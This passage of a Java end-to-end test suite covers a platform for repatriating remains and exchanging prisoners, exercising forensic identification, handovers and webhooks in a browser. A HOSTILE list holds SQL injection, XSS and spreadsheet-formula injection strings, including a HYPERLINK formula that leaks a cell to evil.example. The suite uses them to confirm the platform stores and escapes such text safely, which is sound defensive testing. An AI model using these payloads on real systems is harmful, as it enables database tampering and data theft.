    /** Text that attacks whoever reads it carelessly: SQL, markup, spreadsheet formulas, quotes and backslashes. */
    private static final List<String> HOSTILE = List.of("Robert'); DROP TABLE remains_case;--",
            "<script>alert(\"x\")</script>", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+SUM(1+1)",
            "-2+3", "@cmd", "O'Brien \\\"quoted\\\"", "' OR '1'='1");

    /**
     * The console in headless Chromium on this platform: a coordinator reads the ledger, examiners propose and
     * confirm under the four-eyes rule, a laboratory of the other party finds nothing, a subscriber-admin sees a
     * secret once; names written as markup show as text; every page tested has no serious accessibility fault.
     */
    @Test
    @Order(4)
    void peopleDoTheirWorkInTheConsoleInARealBrowserUnderTheApisRules() throws Exception {
        assertThat(ConsoleBrowser.installed()).as("Debian's chromium and chromium-driver (.ci/run installs them)").isTrue();
        String examinerA = api.token("examiner-hnatiuk", "lab-ua-kyiv", "UA", "forensic-examiner");
        // A body of the Kyiv laboratory, examined (through the API) so that an identification may be proposed.
        String caseId = api.read("identification", "/api/v1/cases?status=RECEIVED&size=1", examinerA)
                .path("items").get(0).path("id").asText();
        api.write(201, "identification", "POST", "/api/v1/cases/" + caseId + "/examinations", examinerA,
                Map.of("kind", "ODONTOLOGY", "examiner", "Dr O. Hnatiuk", "examinedOn", "2025-06-20",
                        "method", "Dental charting", "findings", "Crown on 16; 36 missing ante mortem"),
                Map.of("Idempotency-Key", "console-examination-" + caseId));
        // The chart on the case's post-mortem record and the family dentist's in a missing person's ante-mortem record:
        // the reconciliation the examiner's proposal by odontology rests on.
        List<Map<String, Object>> chart = List.of(Map.of("tooth", 16, "state", "PRESENT", "crown", true),
                Map.of("tooth", 36, "state", "MISSING_ANTE_MORTEM"), Map.of("tooth", 26, "state", "PRESENT", "filling", "MOD"),
                Map.of("tooth", 46, "state", "PRESENT", "filling", "O"), Map.of("tooth", 11, "state", "PRESENT"));
        String reconciledPerson = api.write(201, "identification", "POST", "/api/v1/missing-persons",
                api.token("e2e-ua", UA, "UA", "coordinator"), Map.of("surname", "Коваленко-" + Long.toString(System.nanoTime()
                        % 1_000_000, 36), "firstNames", "Андрій", "script", "Cyrl", "language", "uk", "party", "UA",
                        "category", "MILITARY", "source", "FAMILY_REPORT", "reportedOn", "2025-06-01")).path("personId").asText();
        api.write(201, "identification", "POST", "/api/v1/missing-persons/" + reconciledPerson + "/ante-mortem", examinerA,
                Map.of("dental", Map.of("teeth", chart, "source", "DENTAL_RECORD")));
        api.write(201, "identification", "POST", "/api/v1/cases/" + caseId + "/post-mortem", examinerA, Map.of("dental", chart));
        // A handover of two bodies for the browser to carry out, under an agreement of its own.
        Handover consoleHandover = plannedHandover("E2E-CONSOLE", "Console handover", "Ukraine", "Russia",
                "Head of delegation", "Zaporizhzhia checkpoint", 10, "2025-06-20");
        Path screenshots = work.resolve("console-screenshots");
        try (ConsoleBrowser browser = new ConsoleBrowser(platform.console().baseUrl(), screenshots, work.resolve("chromium"))) {
            try {
                browser.signIn("console-ua-coordinator", UA, "UA", "coordinator");
                browser.open("/agreements");
                assertThat(browser.driver().findElements(By.cssSelector("table a[href^='/agreements/']"))).isNotEmpty();
                browser.open("/agreements/" + storyAgreement);
                assertThat(browser.text(By.id("terms"))).contains("4,812 of 6,000", "80.2%",
                        "eligible 200, released 197, declined 3, died 0, remaining 0");
                assertThat(browser.text(By.id("balances"))).contains("+4,812", "Out of tolerance");
                assertThat(browser.driver().findElements(By.cssSelector("figure.chart rect.series-0"))).isNotEmpty();
                // The week's receipts per direction: 4,812 bodies and 255 prisoners came to Ukraine, 158 went back.
                assertThat(browser.text(By.id("weeks"))).contains("2025-W24 RU → UA 5,067", "2025-W24 UA → RU 158");
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                // The chart is drawn on the server: no inline script or style for the Content-Security-Policy to allow.
                assertThat(browser.driver().getPageSource()).doesNotContainPattern("<script(?![^>]*\\ssrc=)")
                        .doesNotContain(" style=");
                browser.screenshot("agreement");

                browser.driver().findElement(By.cssSelector("button[value='uk']")).click();
                assertThat(browser.waitFor(By.cssSelector("h2")).getText()).isEqualTo("Умови та їх виконання");
                assertThat(browser.driver().findElement(By.tagName("html")).getAttribute("lang")).isEqualTo("uk");
                assertThat(browser.text(By.id("terms"))).contains("4 812 з 6 000");
                browser.driver().findElement(By.cssSelector("button[value='en']")).click();
                assertThat(browser.waitFor(By.cssSelector("h2")).getText()).isEqualTo("Terms and their fulfilment");
                // The agreement's exchange lists, and the persons on one of them (audited reads, as in the API).
                browser.driver().findElement(By.linkText("Exchange lists")).click();
                assertThat(browser.waitFor(By.id("exchange-lists")).getText()).contains("AGED_18_TO_25",
                        "SERIOUSLY_WOUNDED_OR_SICK");
                browser.driver().findElement(By.cssSelector("#exchange-lists a")).click();
                assertThat(browser.waitFor(By.id("list-progress")).getText()).startsWith("eligible ");
                assertThat(browser.driver().findElements(By.cssSelector("#entries tbody tr"))).isNotEmpty();
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.signOut();

                // Examiner A proposes; a surname written as markup is stored and shown as the text it is.
                browser.signIn("examiner-hnatiuk", "lab-ua-kyiv", "UA", "forensic-examiner");
                browser.open("/cases");
                assertThat(browser.driver().findElements(By.cssSelector("#cases a[href^='/cases/']"))).isNotEmpty();
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.open("/cases/" + caseId);
                assertThat(browser.text(By.id("examinations"))).contains("ODONTOLOGY", "Dr O. Hnatiuk", "Crown on 16");
                assertThat(browser.text(By.id("reconciliation"))).contains("Коваленко-", "PRIMARY", "ODONTOLOGY");
                new Select(browser.driver().findElement(By.id("method"))).selectByValue("ODONTOLOGY");
                new Select(browser.driver().findElement(By.id("missingPersonId"))).selectByValue(reconciledPerson);
                browser.driver().findElement(By.id("evidence")).sendKeys("Dental records of the family dentist match");
                browser.driver().findElement(By.id("surname")).sendKeys("<b>Коваленко</b>");
                browser.driver().findElement(By.id("firstNames")).sendKeys("Андрій");
                browser.driver().findElement(By.id("nationality")).sendKeys("UA");
                browser.driver().findElement(By.id("submit-proposal")).click();
                assertThat(browser.waitFor(By.cssSelector(".proposal-status")).getText()).isEqualTo("PROPOSED");
                assertThat(browser.text(By.cssSelector(".proposal dl"))).contains("<b>Коваленко</b>");
                assertThat(browser.driver().findElements(By.cssSelector(".proposal dl b"))).isEmpty();
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.screenshot("case");
                // Four eyes: the proposer's own confirmation is refused, with the service's reason.
                browser.driver().findElement(By.cssSelector(".proposal button.confirm")).click();
                assertThat(browser.waitFor(By.id("refusal")).getText()).isEqualTo("The service refused");
                assertThat(browser.bodyText()).contains("Four-eyes");
                browser.open("/");
                browser.signOut();

                browser.signIn("examiner-melnyk", "lab-ua-kyiv", "UA", "forensic-examiner");
                browser.open("/cases/" + caseId);
                browser.driver().findElement(By.cssSelector(".proposal button.confirm")).click();
                assertThat(browser.waitFor(By.id("case-status")).getText()).isEqualTo("IDENTIFIED");
                assertThat(browser.text(By.cssSelector("section[aria-labelledby='established-title']")))
                        .contains("<b>Коваленко</b>", "Андрій");
                browser.open("/register/reviews");
                assertThat(browser.waitFor(By.tagName("h1")).getText()).isEqualTo("Possible duplicates to review");
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.signOut();

                // A mediator reads each list's counts, and not the persons on it (the API's rule).
                browser.signIn("console-mediator", "org-tr-mfa", null, "mediator");
                browser.open("/exchange-lists?agreementId=" + storyAgreement);
                browser.driver().findElement(By.cssSelector("#exchange-lists a")).click();
                assertThat(browser.waitFor(By.id("list-progress")).getText()).startsWith("eligible ");
                assertThat(browser.driver().findElements(By.id("entries"))).isEmpty();
                browser.signOut();

                // Outside one's scope the console answers as the API does: not found.
                browser.signIn("examiner-volkov", "lab-ru-rostov", "RU", "forensic-examiner");
                browser.open("/cases/" + caseId);
                assertThat(browser.waitFor(By.id("refusal")).getText()).isEqualTo("Not found");
                browser.signOut();

                // Handovers: the story's board, then a new handover carried out in the browser by both parties.
                browser.signIn("console-ua-coordinator", UA, "UA", "coordinator");
                // The identified dead of today as the spreadsheet the coordinator downloads from the case queue.
                String today = LocalDate.now(ZoneOffset.UTC).toString();
                browser.open("/cases");
                Object identifiedDead = ((org.openqa.selenium.JavascriptExecutor) browser.driver()).executeAsyncScript(
                        "const done = arguments[arguments.length - 1];"
                                + " fetch(arguments[0]).then(r => r.text()).then(done, e => done('failed: ' + e));",
                        "/cases/identified-dead.csv?from=" + today + "&to=" + today);
                assertThat((String) identifiedDead).contains("<b>Коваленко</b>", "Андрій");
                browser.open("/handovers?agreementId=" + storyAgreement);
                assertThat(browser.text(By.id("state-PARTIALLY_RECEIVED"))).contains("(1)");
                assertThat(browser.text(By.id("board"))).contains("REMAINS RU → UA", "PRISONERS UA → RU");
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.screenshot("board");
                browser.signOut();

                browser.signIn("console-ru-coordinator", "org-ru-coordination", "RU", "coordinator");
                browser.open("/handovers/" + consoleHandover.transferId());
                Path manifests = Files.createDirectories(work.resolve("console-manifests"));
                String columns = "tag,nationality,category,surname,firstNames,patronymic,dateOfBirth,serviceNumber,"
                        + "recoveryPlace,recoveryDate,personalEffects\n";
                Path refused = Files.writeString(manifests.resolve("refused.csv"), columns
                        + "C-1,UA,MILITARY,Бондар,Олег,,,,Бахмут,2025-04-05,\n"
                        + "C-2,U,MILITARY,,,,,,,2025-04-05,\n");
                browser.driver().findElement(By.id("manifest")).sendKeys(refused.toString());
                browser.driver().findElement(By.id("upload-manifest")).click();
                assertThat(browser.waitFor(By.id("row-errors")).getText()).contains("rows[2].nationality", "rows[2].recoveryPlace")
                        .doesNotContain("rows[1]");
                assertThat(browser.text(By.id("manifest-items"))).isEqualTo("0");
                Path accepted = Files.writeString(manifests.resolve("accepted.csv"), columns
                        + "C-1,UA,MILITARY,Бондар,Олег,,,,Бахмут,2025-04-05,\n"
                        + "C-2,UA,UNKNOWN,,,,,,Бахмут,2025-04-05,\n");
                browser.driver().findElement(By.id("manifest")).sendKeys(accepted.toString());
                browser.driver().findElement(By.id("upload-manifest")).click();
                assertThat(browser.waitFor(By.id("handover-state")).getText()).isEqualTo("MANIFEST_SUBMITTED");
                assertThat(browser.text(By.id("manifest-items"))).isEqualTo("2");
                browser.driver().findElement(By.id("dispatch-count")).sendKeys("2");
                browser.driver().findElement(By.id("dispatch")).click();
                assertThat(browser.waitFor(By.id("handover-state")).getText()).isEqualTo("DISPATCHED");
                browser.signOut();

                browser.signIn("console-ua-coordinator", UA, "UA", "coordinator");
                browser.open("/handovers/" + consoleHandover.transferId());
                browser.driver().findElement(By.id("receipt-count")).sendKeys("1");
                browser.driver().findElement(By.id("receive")).click();
                browser.waitFor(By.id("missing")).sendKeys("C-2");
                browser.driver().findElement(By.id("reconcile")).click();
                assertThat(browser.waitFor(By.id("handover-state")).getText()).isEqualTo("PARTIALLY_RECEIVED");
                assertThat(browser.text(By.id("report"))).contains("Declared 2", "Received 1", "Missing 1");
                assertThat(browser.bodyText()).contains("Missing: C-2");

                // The register: an import refused whole with its rows in place, one that links while its progress
                // bar follows it (htmx asking again), and a search in Latin letters for names written in Cyrillic.
                browser.open("/register");
                String reportColumns = "surname,firstNames,patronymic,script,language,dateOfBirth,serviceNumber,unit,party,"
                        + "category,circumstances,source,sourceAddress,reportedOn\n";
                Path badReports = Files.writeString(manifests.resolve("reports-refused.csv"), reportColumns
                        + "Шевчук,Остап,,Cyrl,uk,1990-01-02,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n"
                        + ",Ярема,,Cyrl,uk,1991-03-04,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n");
                browser.driver().findElement(By.id("reports")).sendKeys(badReports.toString());
                browser.driver().findElement(By.id("import")).click();
                assertThat(browser.waitFor(By.id("row-errors")).getText()).contains("[2].surname").doesNotContain("[1]");
                Path reports = Files.writeString(manifests.resolve("reports.csv"), reportColumns
                        + "Шевчук,Остап,,Cyrl,uk,1990-01-02,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n"
                        + "Гнатюк,Ярема,,Cyrl,uk,1991-03-04,,,UA,MILITARY,,FAMILY_REPORT,,2025-05-30\n");
                browser.driver().findElement(By.id("reports")).sendKeys(reports.toString());
                browser.driver().findElement(By.id("import")).click();
                new org.openqa.selenium.support.ui.WebDriverWait(browser.driver(), Duration.ofSeconds(60))
                        .until(driver -> driver.findElement(By.id("import-status")).getText().equals("COMPLETED"));
                assertThat(browser.driver().findElement(By.id("import-bar")).getAttribute("value")).isEqualTo("2");
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.open("/register");
                browser.driver().findElement(By.id("name")).sendKeys("Shevchuk");
                browser.driver().findElement(By.id("search")).click();
                assertThat(browser.waitFor(By.id("persons")).getText()).contains("Шевчук", "Остап", "1990-01-02");
                assertThat(browser.driver().getCurrentUrl()).doesNotContain("Shevchuk").doesNotContain("%D0");
                browser.signOut();

                // An observer (a press office) reads the counts, as the API gives them, as charts and a table.
                browser.signIn("console-press", "org-press", null, "observer");
                browser.open("/statistics?agreementId=" + storyAgreement);
                JsonNode counts = api.read("identification", "/api/v1/case-statistics?agreementId=" + storyAgreement,
                        api.token("console-press", "org-press", null, "observer")).path("counts");
                assertThat(browser.text(By.id("statistics"))).contains(
                        String.format(java.util.Locale.ENGLISH, "Items received %,d", counts.path("received").asLong()),
                        String.format(java.util.Locale.ENGLISH, "Individuals established %,d",
                                counts.path("individuals").asLong()),
                        String.format(java.util.Locale.ENGLISH, "Identified %,d", counts.path("identified").asLong()),
                        String.format(java.util.Locale.ENGLISH, "Joined to another body %,d", counts.path("joined").asLong()));
                assertThat(browser.driver().findElements(By.cssSelector("figure.chart rect.series-0"))).hasSizeGreaterThan(8);
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.signOut();

                browser.signIn("console-subscriptions", UA, "UA", "subscriber-admin");
                browser.open("/subscriptions");
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                String hook = "http://127.0.0.1:9/console-hook";
                browser.driver().findElement(By.id("url")).sendKeys(hook);
                browser.driver().findElement(By.id("eventTypes")).sendKeys("agreement.agreement.terminated");
                browser.driver().findElement(By.id("create-subscription")).click();
                String secret = browser.waitFor(By.id("secret")).getText();
                assertThat(secret).startsWith("whsec_");
                browser.driver().findElement(By.id("to-subscription")).click();
                assertThat(browser.waitFor(By.id("subscription-status")).getText()).isEqualTo("ACTIVE");
                assertThat(browser.driver().getPageSource()).doesNotContain(secret);
                browser.driver().findElement(By.id("send-test")).click();
                assertThat(browser.waitFor(By.id("deliveries")).getText()).contains("homeward.test");
                browser.driver().findElement(By.id("pause")).click();
                assertThat(browser.waitFor(By.id("subscription-status")).getText()).isEqualTo("PAUSED");
                browser.driver().findElement(By.id("resume")).click();
                assertThat(browser.waitFor(By.id("subscription-status")).getText()).isEqualTo("ACTIVE");
                browser.driver().findElement(By.cssSelector("#deliveries a")).click();
                assertThat(browser.waitFor(By.tagName("h1")).getText()).contains("homeward.test");
                assertThat(browser.seriousAccessibilityViolations()).isEmpty();
                browser.driver().findElement(By.id("back-to-subscription")).click();
                browser.driver().findElement(By.id("rotate")).click();
                assertThat(browser.waitFor(By.id("secret")).getText()).startsWith("whsec_").isNotEqualTo(secret);
                browser.open("/subscriptions");
                assertThat(browser.driver().getPageSource()).contains(hook).doesNotContain(secret);
            } catch (AssertionError | RuntimeException e) {
                browser.screenshot("failure");
                throw e;
            }
        }
        assertThat(api.read("identification", "/api/v1/cases/" + caseId, examinerA).path("status").asText())
                .isEqualTo("IDENTIFIED");
        String admin = api.token("console-subscriptions", UA, "UA", "subscriber-admin");
        for (JsonNode subscription : api.read("notification", "/api/v1/subscriptions?size=100", admin).path("items")) {
            if (subscription.path("url").asText().equals("http://127.0.0.1:9/console-hook")) {
                api.send("notification", "DELETE", "/api/v1/subscriptions/" + subscription.path("id").asText(), admin,
                        null, null, Map.of());
            }
        }
    }

    @Test
    @Order(5)
    void hostileButValidTextIsStoredVerbatimAndReturnedSafely() throws Exception {
        String ua = api.token("e2e-ua", UA, "UA", "coordinator");
        String ru = api.token("e2e-ru", "org-ru-coordination", "RU", "coordinator");
        Handover handover = plannedHandover("E2E-HOSTILE", HOSTILE.get(1), HOSTILE.get(0), HOSTILE.get(2), HOSTILE.get(7),
                HOSTILE.get(4), 10, "2025-06-21");
        JsonNode read = api.read("agreement", "/api/v1/agreements/" + handover.agreementId(), ua);
        assertThat(read.path("title").asText()).isEqualTo(HOSTILE.get(1));
        assertThat(read.path("parties").findValuesAsText("name")).containsExactly(HOSTILE.get(0), HOSTILE.get(2));
        assertThat(api.read("transfer", "/api/v1/transfers/" + handover.transferId(), ru).path("handoverPoint")
                .path("name").asText()).isEqualTo(HOSTILE.get(4));
        String transfer = handover.transferId();
        String base = "/api/v1/transfers/" + transfer;

        // A name that displays as another (right-to-left override) is refused, naming the cell, not its text.
        String columns = "tag,nationality,category,surname,firstNames,patronymic,dateOfBirth,serviceNumber,recoveryPlace,"
                + "recoveryDate,personalEffects\n";
        HomewardApi.Answer overridden = api.send("transfer", "PUT", base + "/manifest", ru, "text/csv; charset=UTF-8",
                columns + "H-1,UA,MILITARY,\u202Eоко,Тарас,,,,Бахмут,2025-04-05,\n", Map.of());
        assertThat(overridden.status()).isEqualTo(422);
        assertThat(overridden.body()).contains("rows[1].surname").doesNotContain("\u202E");

        StringBuilder manifest = new StringBuilder(columns);
        for (int i = 0; i < HOSTILE.size(); i++) {
            manifest.append("H-").append(i + 1).append(",UA,MILITARY,").append(csvCell(HOSTILE.get(i))).append(',')
                    .append(csvCell(HOSTILE.get((i + 1) % HOSTILE.size()))).append(",,,,Бахмут,2025-04-05,\n");
        }
        assertThat(api.send("transfer", "PUT", base + "/manifest", ru, "text/csv; charset=UTF-8", manifest.toString(),
                Map.of()).status()).isEqualTo(200);
        JsonNode items = api.send("transfer", "GET", base + "/manifest", ua, null, null, Map.of("Accept", "application/json"))
                .json().path("items");
        assertThat(items.findValuesAsText("surname")).containsExactlyElementsOf(HOSTILE);
        // As CSV every cell a spreadsheet would run is defused with an apostrophe, the rest left as it was.
        String csv = api.send("transfer", "GET", base + "/manifest", ua, null, null, Map.of("Accept", "text/csv")).body();
        assertThat(csv).contains("\"'=HYPERLINK(", "\"'+SUM(1+1)\"", "\"'-2+3\"", "\"'@cmd\"", "\"<script>alert(\"\"x\"\")</script>\"")
                .doesNotContain(",\"=HYPERLINK", ",\"+SUM", ",\"@cmd");

        // The claimed names travel to identification-service as they were written.
        api.write(200, "transfer", "POST", base + "/dispatch", ru, Map.of("count", HOSTILE.size(), "dispatchedAt", "2025-06-21T07:00:00Z"));
        api.write(200, "transfer", "POST", base + "/receipt", ua, Map.of("count", HOSTILE.size(), "receivedAt", "2025-06-21T12:00:00Z"));
        await().atMost(Duration.ofMinutes(1)).until(() -> api.read("identification", "/api/v1/cases?transferId=" + transfer
                + "&size=100", ua).path("items").size() == HOSTILE.size());
        JsonNode cases = api.read("identification", "/api/v1/cases?transferId=" + transfer + "&size=100", ua).path("items");
        assertThat(cases.findValues("claimed").stream().map(claimed -> claimed.path("surname").asText()))
                .containsExactlyInAnyOrderElementsOf(HOSTILE);

        // And the register keeps a family's report as written (its own text rules aside).
        JsonNode reported = api.write(201, "identification", "POST", "/api/v1/missing-persons", ua, Map.of(
                "surname", HOSTILE.get(0), "firstNames", HOSTILE.get(1), "script", "Latn", "party", "UA",
                "category", "MILITARY", "source", "FAMILY_REPORT", "circumstances", HOSTILE.get(2), "reportedOn", "2025-05-30"));
        JsonNode person = api.read("identification", "/api/v1/missing-persons/" + reported.path("personId").asText(), ua);
        assertThat(person.path("surname").asText()).isEqualTo(HOSTILE.get(0));
        assertThat(person.toString()).contains(HOSTILE.get(2).replace("\"", "\\\""));
    }

    private static String csvCell(String value) {
        return "\"" + value.replace("\"", "\"\"") + "\"";
    }

    /** The service's duplicates counter over all its consumers (OpenMetrics: the value follows the labels; an exemplar may follow it). */
    private static double duplicatesSkipped(String service) {
        return api.get(service, "/q/metrics", null).body().lines()
                .filter(line -> line.startsWith("homeward_events_duplicates_total{"))
                .mapToDouble(line -> Double.parseDouble(line.substring(line.indexOf("} ") + 2).split(" ")[0])).sum();
    }

    /** An agreement's id and the transfer planned under it. */
    private record Handover(String agreementId, String transferId) {
    }

    /**
     * An ACTIVE agreement of one term, {@code quantity} bodies from RU to UA (drafted by UA, signed by both),
     * and a transfer of remains planned under it by RU for {@code day}.
     */
    private static Handover plannedHandover(String reference, String title, String uaName, String ruName, String signatory,
                                            String handoverPoint, int quantity, String day) {
        String ua = api.token("e2e-ua", UA, "UA", "coordinator");
        String ru = api.token("e2e-ru", "org-ru-coordination", "RU", "coordinator");
        JsonNode agreement = api.write(201, "agreement", "POST", "/api/v1/agreements", ua, Map.of(
                "reference", reference, "title", title, "concludedOn", "2025-06-02", "effectiveDate", "2025-06-07",
                "parties", List.of(Map.of("code", "UA", "name", uaName), Map.of("code", "RU", "name", ruName)),
                "mediators", List.of("org-tr-mfa"), "intermediaries", List.of("org-icrc"),
                "terms", List.of(Map.of("kind", "REMAINS_REPATRIATION", "fromParty", "RU", "toParty", "UA",
                        "basis", "QUANTITY", "quantity", quantity))));
        String id = agreement.path("id").asText();
        for (String signer : List.of(ua, ru)) {
            api.write(200, "agreement", "POST", "/api/v1/agreements/" + id + "/signatures", signer,
                    Map.of("signatoryName", signatory, "signatoryTitle", "Head of delegation"));
        }
        await().atMost(Duration.ofMinutes(1)).until(() -> api.get("transfer", "/api/v1/agreement-views/" + id, ru)
                .body().contains("\"ACTIVE\""));
        String transfer = api.write(201, "transfer", "POST", "/api/v1/transfers", ru, Map.of("agreementId", id,
                "termIds", List.of(agreement.path("terms").get(0).path("id").asText()), "kind", "REMAINS",
                "fromParty", "RU", "toParty", "UA", "escortOrganisation", "org-icrc", "scheduledAt", day + "T06:00:00Z",
                "handoverPoint", Map.of("name", handoverPoint, "timeZone", "Europe/Kyiv"))).path("id").asText();
        return new Handover(id, transfer);
    }

    private interface ServiceStep {
        void run(String service) throws Exception;
    }

    /** One thread per service: a step that waits for another service's progress must never queue behind it. */
    private static void inParallel(Set<String> services, ServiceStep step) {
        ExecutorService threads = Executors.newFixedThreadPool(services.size());
        try {
            CompletableFuture.allOf(services.stream().map(service -> CompletableFuture.runAsync(() -> {
                try {
                    step.run(service);
                } catch (Exception e) {
                    throw new IllegalStateException(service + ": " + e.getMessage(), e);
                }
            }, threads)).toArray(CompletableFuture[]::new)).join();
        } finally {
            threads.shutdownNow();
        }
    }

    private static long casesOpened(SignedWebhookSubscriber receiver, String transfer) {
        return receiver.events().values().stream().filter(event -> event.type().equals("identification.case.opened")
                && event.data().path("transferId").asText().equals(transfer)).count();
    }

    private static Set<String> idsOf(SignedWebhookSubscriber subscriber, String agreementId) {
        return subscriber.events().entrySet().stream()
                .filter(e -> e.getValue().type().startsWith("agreement.") || e.getValue().type().startsWith("transfer."))
                .filter(e -> e.getValue().data().path("agreementId").asText().equals(agreementId))
                .map(Map.Entry::getKey).collect(Collectors.toSet());
    }

    private static long count(String service, String sql) {
        return platform.database(service).queryForLong(sql);
    }
}
